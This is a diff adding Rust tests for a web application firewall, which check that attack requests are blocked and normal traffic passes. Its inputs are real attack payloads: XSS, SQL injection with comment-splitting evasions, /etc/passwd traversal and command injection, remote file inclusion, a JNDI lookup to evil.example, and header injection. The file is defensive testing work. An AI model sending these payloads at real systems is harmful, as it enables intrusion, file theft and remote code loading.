@@ -1,0 +1,289 @@
+//! Rule-level tests: each family catches its classic shapes (including the
+//! evasions the decoders exist for) and ordinary traffic passes.
+
+use gatehouse_config::waf::{check, Waf as WafFile, WafPolicy};
+use http::HeaderMap;
+
+use super::{RequestInput, Verdict, Waf};
+
+fn policy(yaml: &str) -> WafPolicy {
+    let w: WafFile = serde_yaml_ng::from_str(yaml).expect("policy yaml");
+    check(&w, "waf", &mut |p, m| panic!("{p}: {m}"))
+}
+
+fn waf(paranoia: u8) -> Waf {
+    Waf::new(policy(&format!("{{paranoia: {paranoia}}}"))).expect("rules compile")
+}
+
+struct Req {
+    method: &'static str,
+    uri: String,
+    headers: HeaderMap,
+    body: Vec<u8>,
+}
+
+fn get(uri: &str) -> Req {
+    let mut headers = HeaderMap::new();
+    headers.insert("host", "example.com".parse().unwrap());
+    headers.insert(
+        "user-agent",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+            .parse()
+            .unwrap(),
+    );
+    headers.insert(
+        "accept",
+        "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"
+            .parse()
+            .unwrap(),
+    );
+    Req {
+        method: "GET",
+        uri: uri.to_string(),
+        headers,
+        body: Vec::new(),
+    }
+}
+
+fn post(uri: &str, content_type: &str, body: &str) -> Req {
+    let mut r = get(uri);
+    r.method = "POST";
+    r.headers
+        .insert("content-type", content_type.parse().unwrap());
+    r.headers
+        .insert("content-length", body.len().to_string().parse().unwrap());
+    r.body = body.as_bytes().to_vec();
+    r
+}
+
+fn inspect(w: &Waf, r: &Req) -> Verdict {
+    let input = RequestInput {
+        method: r.method,
+        raw_uri: r.uri.as_bytes(),
+        version: http::Version::HTTP_11,
+        headers: &r.headers,
+        body: &r.body,
+        body_truncated: false,
+    };
+    let path = r.uri.split('?').next().unwrap_or("/");
+    w.inspect(&input, path)
+}
+
+#[track_caller]
+fn assert_blocked(w: &Waf, r: &Req, family: &str) {
+    let v = inspect(w, r);
+    assert!(
+        v.blocked,
+        "not blocked: {} {:?}: {:#?}",
+        r.uri,
+        String::from_utf8_lossy(&r.body),
+        v.detections
+    );
+    assert!(
+        v.detections.iter().any(|d| d.family == family),
+        "no {family} detection for {}: {:#?}",
+        r.uri,
+        v.detections
+    );
+}
+
+#[track_caller]
+fn assert_passes(w: &Waf, r: &Req) {
+    let v = inspect(w, r);
+    assert!(
+        !v.blocked && v.detections.is_empty(),
+        "flagged {} {:?}: {:#?}",
+        r.uri,
+        String::from_utf8_lossy(&r.body),
+        v.detections
+    );
+}
+
+#[test]
+fn every_paranoia_level_compiles() {
+    for pl in 1..=4 {
+        waf(pl);
+    }
+    assert!(super::catalog().len() > 100);
+}
+
+#[test]
+fn classic_attacks_are_blocked_at_paranoia_one() {
+    let w = waf(1);
+    assert_blocked(&w, &get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss");
+    assert_blocked(&w, &get("/?id=1%27%20OR%20%271%27=%271"), "sqli");
+    assert_blocked(
+        &w,
+        &get("/?id=1%20UNION%20SELECT%20username,password%20FROM%20users"),
+        "sqli",
+    );
+    assert_blocked(&w, &get("/?file=../../../../etc/passwd"), "lfi");
+    assert_blocked(&w, &get("/?host=example.com;cat%20/etc/passwd"), "rce");
+    assert_blocked(&w, &get("/?src=http://192.168.1.10/shell.txt"), "rfi");
+    assert_blocked(&w, &get("/?x=%3C?php%20system($_GET[c]);"), "php");
+    assert_blocked(&w, &get("/?x=$%7Bjndi:ldap://evil.example/a%7D"), "java");
+    assert_blocked(&w, &get("/?__proto__[admin]=1"), "generic");
+    assert_blocked(
+        &w,
+        &post("/api", "application/json", r#"{"q":"1' or '1'='1"}"#),
+        "sqli",
+    );
+    assert_blocked(
+        &w,
+        &post(
+            "/form",
+            "application/x-www-form-urlencoded",
+            "comment=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+        ),
+        "xss",
+    );
+}
+
+#[test]
+fn evasions_are_decoded() {
+    let w = waf(1);
+    // Double URL encoding.
+    assert_blocked(
+        &w,
+        &get("/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
+        "xss",
+    );
+    // Mixed case.
+    assert_blocked(&w, &get("/?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E"), "xss");
+    // SQL keywords split by comments.
+    assert_blocked(
+        &w,
+        &get("/?id=1%20UN/**/ION%20SEL/**/ECT%201,2,3--"),
+        "sqli",
+    );
+    assert_blocked(
+        &w,
+        &get("/?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
+        "sqli",
+    );
+    // Overlong UTF-8 for `../`.
+    assert_blocked(&w, &get("/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), "lfi");
+    // HTML entities hiding a javascript: URL.
+    assert_blocked(
+        &w,
+        &post(
+            "/f",
+            "application/x-www-form-urlencoded",
+            "u=ja%26Tab%3Bvascript%26colon%3Balert(1)",
+        ),
+        "xss",
+    );
+    // Shell quoting tricks.
+    assert_blocked(&w, &get("/?h=x;c%27a%27t%20/e%22t%22c/pa%5Csswd"), "rce");
+    // Header injection in a value.
+    assert_blocked(
+        &w,
+        &get("/?next=%0d%0aSet-Cookie:%20session=evil"),
+        "protocol_attack",
+    );
+}
+
+#[test]
+fn ordinary_traffic_passes_at_paranoia_one() {
+    let w = waf(1);
+    for uri in [
+        "/",
+        "/search?q=how+to+select+a+good+union+representative",
+        "/search?q=don%27t+panic%3B+cat+lovers+unite",
+        "/search?q=python+tutorial",
+        "/products?sort=-created_at&page=2&filter%5Bcolor%5D=red",
+        "/blog/2024/05/why-we-moved-to-rust",
+        "/api/v1/items?ids=1,2,3&fields=name,price",
+        "/search?q=C%2B%2B+templates+%26+generics+(part+2)",
+        "/wiki/Special:Search?search=Bash+(Unix+shell)",
+        "/search?q=100%25+cotton+t-shirt",
+    ] {
+        assert_passes(&w, &get(uri));
+    }
+    assert_passes(
+        &w,
+        &post(
+            "/api/orders",
+            "application/json",
+            r#"{"customer":{"name":"O'Brien","email":"ob@example.com"},"items":[{"sku":"A-1","qty":2,"note":"Leave it at the door; don't ring."}],"total":19.99,"gift":false,"created_at":"2026-11-23T08:00:00Z"}"#,
+        ),
+    );
+    assert_passes(
+        &w,
+        &post(
+            "/contact",
+            "application/x-www-form-urlencoded",
+            "name=Jane+Doe&email=jane%40example.com&message=Hi%21+I+can%27t+log+in+since+the+update%3B+please+help.+%28Order+%2312345%29",
+        ),
+    );
+}
+
+#[test]
+fn detect_mode_scores_but_never_blocks() {
+    let w = Waf::new(policy("{mode: detect}")).unwrap();
+    let v = inspect(&w, &get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
+    assert!(!v.blocked);
+    assert!(v.score >= 5 && !v.detections.is_empty());
+}
+
+#[test]
+fn exclusions_switch_off_rules_per_path_and_variable() {
+    let attack = "/search?q=%3Cscript%3Ealert(1)%3C/script%3E&other=1";
+    // The whole path.
+    let w = Waf::new(policy("{exclusions: [{path: /search}]}")).unwrap();
+    assert_passes(&w, &get(attack));
+    // One family on one argument: the same payload in another argument still blocks.
+    let w = Waf::new(policy(
+        "{exclusions: [{families: [xss], variables: ['args:q']}]}",
+    ))
+    .unwrap();
+    assert_passes(&w, &get(attack));
+    assert_blocked(
+        &w,
+        &get("/search?other=%3Cscript%3Ealert(1)%3C/script%3E"),
+        "xss",
+    );
+    // One rule by id.
+    let v = inspect(&Waf::new(policy("{mode: detect}")).unwrap(), &get(attack));
+    let ids: Vec<u32> = v.detections.iter().map(|d| d.rule).collect();
+    let rules = ids
+        .iter()
+        .map(|i| i.to_string())
+        .collect::<Vec<_>>()
+        .join(", ");
+    let w = Waf::new(policy(&format!("{{exclusions: [{{rules: [{rules}]}}]}}"))).unwrap();
+    assert_passes(&w, &get(attack));
+    // Another path is unaffected.
+    let w = Waf::new(policy("{exclusions: [{path: /search}]}")).unwrap();
+    assert_blocked(
+        &w,
+        &get("/other?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+        "xss",
+    );
+}
+
+#[test]
+fn detections_carry_rule_variable_and_fragment() {
+    let v = inspect(
+        &waf(1),
+        &get("/?name=x&q=%3Cscript%3Ealert(1)%3C/script%3E"),
+    );
+    let d = v
+        .detections
+        .iter()
+        .find(|d| d.family == "xss")
+        .expect("xss");
+    assert_eq!(d.variable, "args:q");
+    assert!(d.fragment.to_ascii_lowercase().contains("script"), "{d:?}");
+    assert!(d.rule / 1000 == 941);
+}
+
+#[test]
+fn methods_and_content_types_are_enforced() {
+    let w = waf(1);
+    let mut r = get("/");
+    r.method = "PROPFIND";
+    assert_blocked(&w, &r, "method");
+    assert_blocked(&w, &post("/", "application/x-foo", "x"), "protocol");
+    assert_passes(&w, &post("/", "application/json", "{}"));
+}
